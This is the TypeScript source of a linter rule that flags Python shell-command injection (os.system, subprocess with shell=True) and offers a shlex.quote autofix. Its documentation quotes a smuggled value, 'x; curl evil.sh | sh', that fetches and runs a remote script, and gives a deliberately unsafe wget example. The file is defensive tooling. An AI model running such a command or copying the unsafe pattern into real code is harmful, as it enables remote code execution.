import { defineRule, type Node, type RuleContext, type UnitEdit } from '../../server/src/engine/api';
import { builtString, interpolatedParts, OriginWalker } from '../lib/flow';

/** Calls that run their command through a shell only with `shell=True`. */
const SHELL_OPTIONAL = ['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen'];
/** Calls that always run a shell. */
const ALWAYS_SHELL = ['os.system', 'os.popen', 'subprocess.getoutput', 'subprocess.getstatusoutput', 'asyncio.create_subprocess_shell', 'commands.getoutput', 'commands.getstatusoutput'];

export const SHELL_SANITIZERS = ['shlex.quote', 'pipes.quote', 'shlex.join', 'subprocess.list2cmdline'];

export default defineRule({
  id: 'shell-command-injection',
  category: 'command-injection',
  severity: 'error',
  cwe: 78,
  message:
    'This shell command is built from a value that is not a constant; a value holding `;`, `|` or `$(...)` runs other commands. Pass an argument list without shell=True, or quote the value with shlex.quote.',
  fixable: true,
  docs: {
    what: "Finds shell commands built at run time: `subprocess.run/call/check_call/check_output/Popen` with `shell=True`, `os.system`, `os.popen`, `subprocess.getoutput` and `asyncio.create_subprocess_shell`, when the command is an f-string, a concatenation, `%` or `.format()` of values that are not constants. Values that come from a parameter, `input()`, request data, a file, a dataframe or a model are errors; other run-time values are warnings. Commands made only of literals and constants, environment variables (the operator's configuration: whoever sets them can run commands already), argument lists without `shell=True`, and values passed through `shlex.quote` are not reported.",
    why: 'The shell reads the whole string, so a file name, URL or dataset field such as `x; curl evil.sh | sh` runs a second command with your credentials, on the training machine or the serving host. Notebook idioms like `subprocess.run(f"wget {url}", shell=True)` pass data straight to the shell.',
    fix: 'Pass a list of arguments and drop `shell=True`: `subprocess.run(["wget", url], check=True)`. When the shell is needed (pipes, globs), quote each value: `f"wget {shlex.quote(url)}"`. The fix quotes the f-string fields with `shlex.quote`; review it when a field was meant to hold several arguments.',
    example: {
      bad: 'import subprocess\n\ndef fetch(url):\n    subprocess.run(f"wget {url}", shell=True)',
      good: 'import subprocess\n\ndef fetch(url):\n    subprocess.run(["wget", url], check=True)',
    },
    references: ['https://docs.python.org/3/library/subprocess.html#security-considerations', 'https://cwe.mitre.org/data/definitions/78.html'],
  },
  calls: [...SHELL_OPTIONAL, ...ALWAYS_SHELL],
  onCall(call, context) {
    const callee = call.callee ?? '';
    if (SHELL_OPTIONAL.includes(callee) && call.flag('shell') !== 'true') return;
    let command = call.argument(0, callee === 'os.system' ? 'command' : callee === 'os.popen' ? 'cmd' : 'args');
    if (!command) return;
    if (command.type === 'list' || command.type === 'tuple') {
      // with shell=True only the first item is the command line
      command = command.namedChildren.find((c) => !!c && c.type !== 'comment') ?? undefined;
      if (!command) return;
    }
    const walker = new OriginWalker(context, { sanitizers: SHELL_SANITIZERS });
    const origin = walker.of(command);
    if (origin === 'constant') return;
    const built = builtString(command, context);
    if (origin === 'dynamic' && !built) return; // an opaque value: nothing says it is not a vetted command
    const name = SHELL_OPTIONAL.includes(callee) ? `${callee}(..., shell=True)` : callee;
    context.report({
      node: command,
      severity: origin === 'input' ? 'error' : 'warning',
      message:
        origin === 'input'
          ? `${name} runs a shell command built from outside input (a parameter, request, file or data field); a value holding \`;\`, \`|\` or \`$(...)\` runs other commands. Pass an argument list without a shell, or quote the value with shlex.quote.`
          : `${name} runs a shell command built at run time; if any part can hold \`;\`, \`|\` or \`$(...)\` it runs other commands. Pass an argument list without a shell, or quote the values with shlex.quote.`,
      fixes: quoteFix(built, walker, context),
    });
  },
});

function quoteFix(built: Node | undefined, walker: OriginWalker, context: RuleContext) {
  if (!built || !sameUnit(built, context)) return [];
  const edits = quoteEdits(built, walker, context);
  if (!edits || edits.length === 0) return [];
  const { edits: importEdits, reference } = context.edits.ensureImport('shlex');
  const fieldEdits = edits.map((e) => ({ ...e, newText: e.newText.replace('__SHLEX__', reference) }));
  return [{ title: 'Quote the interpolated values with shlex.quote', safe: false, edits: [...importEdits, ...fieldEdits] }];
}

/** Wraps the non-constant fields of an f-string or `+` operands in `shlex.quote(...)`; undefined when that would not be correct. */
export function quoteEdits(built: Node, walker: OriginWalker, context: RuleContext): UnitEdit[] | undefined {
  const edits: UnitEdit[] = [];
  if (built.type === 'string') {
    for (const interpolation of built.namedChildren) {
      if (interpolation?.type !== 'interpolation') continue;
      const expression = interpolation.childForFieldName('expression') ?? interpolation.namedChild(0);
      if (!expression) return undefined;
      if (walker.of(expression) === 'constant') continue;
      // a conversion or format spec, or a field already inside quotes: leave it to the user
      if (interpolation.namedChildren.some((c) => c?.type === 'type_conversion' || c?.type === 'format_specifier')) return undefined;
      if (insideQuotes(built, interpolation)) return undefined;
      edits.push(context.edits.replace(expression, `__SHLEX__.quote(${expression.text})`));
    }
    return edits;
  }
  if (built.type === 'binary_operator' && built.childForFieldName('operator')?.text === '+') {
    if (/['"]/.test(stringPartsText(built))) return undefined;
    for (const part of interpolatedParts(built)) {
      if (part.type === 'string' || walker.of(part) === 'constant') continue;
      if (part.parent?.type === 'interpolation') return undefined;
      edits.push(context.edits.replace(part, `__SHLEX__.quote(${part.text})`));
    }
    return edits;
  }
  return undefined;
}

/** The literal text of the string operands of a `+` chain (quotes inside them make quoting ambiguous). */
function stringPartsText(node: Node): string {
  if (node.type === 'string')
    return node.children
      .filter((c) => c?.type === 'string_content')
      .map((c) => c!.text)
      .join('');
  if (node.type === 'binary_operator') return [node.childForFieldName('left'), node.childForFieldName('right')].map((c) => (c ? stringPartsText(c) : '')).join('');
  return '';
}

/** Whether the shell sees a field inside quotes: an odd number of quote characters in the literal text before it. */
function insideQuotes(string: Node, field: Node): boolean {
  let single = 0;
  let double = 0;
  for (const child of string.children) {
    if (!child || child.startIndex >= field.startIndex) break;
    if (child.type !== 'string_content') continue;
    single += (child.text.match(/(?<!\\)'/g) ?? []).length;
    double += (child.text.match(/(?<!\\)"/g) ?? []).length;
  }
  return single % 2 === 1 || double % 2 === 1;
}

function sameUnit(node: Node, context: RuleContext): boolean {
  return context.nodeAt(node.startIndex, node.endIndex)?.id === node.id;
}
